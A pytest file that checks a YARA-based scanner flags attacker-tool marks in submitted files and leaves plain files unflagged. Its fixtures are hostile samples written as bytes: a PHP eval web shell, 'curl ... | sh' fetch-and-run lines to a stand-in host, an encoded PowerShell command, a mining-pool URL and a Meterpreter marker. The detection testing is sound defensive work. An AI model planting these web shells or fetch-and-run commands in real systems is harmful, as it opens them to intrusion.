"""YARA over a submission's binaries and data: marks of attackers' tools, and none in plain ones."""

from __future__ import annotations

import os
import struct

import pytest

from heimnetz_git.scan.engine import scan

pytest.importorskip("yara_x", reason="the extra 'yara' is not installed")

ELF = b"\x7fELF\x02\x01\x01" + bytes(60)
PROGRAM = b"MZ" + bytes(76) + b"This program cannot be run in DOS mode.\r\n$" + bytes(200)
MARKED = [
    ("miner.bin", ELF + b"stratum+tcp://pool.example.invalid:3333", "mining pools", "high"),
    ("icon.png", b"\x89PNG\r\n" + bytes(500) + PROGRAM, "Windows program inside", "high"),
    ("tool", ELF + b"UPX!" + bytes(40), "packed by UPX", "medium"),
    ("app.exe", PROGRAM + b"MEI\x0c\x0b\x0a\x0b\x0e", "PyInstaller", "medium"),
    ("lib.dat", b"\0\0metsrv.dll\0", "remote control", "high"),
    ("page.php", b"<?php eval($_POST['x']); ?>", "web shell", "high"),
    ("run.bat", b"powershell.exe -nop -enc " + b"QUJD" * 20, "encoded command", "high"),
    (
        "setup.sh",
        b"#!/bin/sh\ncurl -s https://x.invalid/a | sh\n",
        "fetches a program",
        "high",
    ),
    ("Makefile", b"uv:\n\tcurl -sSf https://x.invalid/a | sh\n", "fetches a program", "low"),
]
PLAIN = [
    ("icon.png", b"\x89PNG\r\n" + os.urandom(4000)),
    ("fast.so", ELF + b"libc.so.6\0printf\0"),
    ("app.exe", PROGRAM),
    ("run.sh", b'#!/bin/sh\nexec python -m clock "$@"\n'),
    ("page.html", b"<html><script>eval('1')</script></html>"),
    ("data.json", b'{"pools": ["stratum"]}'),
    ("fetch.sh", b"curl -sSfo list.json https://api.example.org/list\n"),
    ("table.bin", struct.pack("<256I", *range(256))),
]


def told(file: str, data: bytes) -> list[tuple[str, str]]:
    """What the rule says of one file: severity and message."""
    return [
        (str(it.severity), it.message)
        for it in scan({f"clock/{file}": data}).findings
        if it.rule == "known-pattern"
    ]


@pytest.mark.parametrize(("file", "data", "words", "severity"), MARKED)
def test_marks_of_tools_are_found(file: str, data: bytes, words: str, severity: str) -> None:
    """Each by its own rule, with its weight."""
    assert [(it[0], words in it[1]) for it in told(file, data)] == [(severity, True)]


@pytest.mark.parametrize(("file", "data"), PLAIN)
def test_plain_files_have_none(file: str, data: bytes) -> None:
    """Icons, libraries, start scripts, pages, tables."""
    assert told(file, data) == []


def test_python_is_left_to_the_analysis() -> None:
    """It knows what a text in a module does; marks alone are no proof."""
    assert told("a.py", b"POOL = 'stratum+tcp://pool.example.invalid'\n") == []
